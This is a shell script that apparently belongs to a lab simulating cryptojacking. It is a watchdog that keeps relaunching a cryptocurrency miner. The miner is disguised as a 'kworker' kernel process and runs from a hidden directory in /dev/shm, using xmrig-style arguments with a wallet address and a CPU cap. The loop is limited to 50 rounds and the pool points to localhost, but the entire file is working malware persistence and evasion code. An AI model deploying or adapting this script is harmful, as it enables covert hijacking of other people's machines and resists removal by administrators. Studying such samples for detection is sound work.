#!/bin/sh
# watchdog: relaunches the worker whenever it is gone (bounded for the lab:
# 50 rounds of 5 s)
D=/dev/shm/.kworker
echo $$ > $D/.wd
i=0
while [ $i -lt 50 ]; do
  i=$((i+1))
  p=; [ -f $D/.pid ] && read p < $D/.pid
  if [ -z "$p" ] || ! kill -0 "$p" 2>/dev/null; then
    cd $D; nohup ./kworkerds -o 127.0.0.1:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -p shop1 -k --cpu-max-threads-hint=30 >/dev/null 2>&1 &
    echo $! > $D/.pid
  fi
  sleep 5
done
rm -f $D/.wd
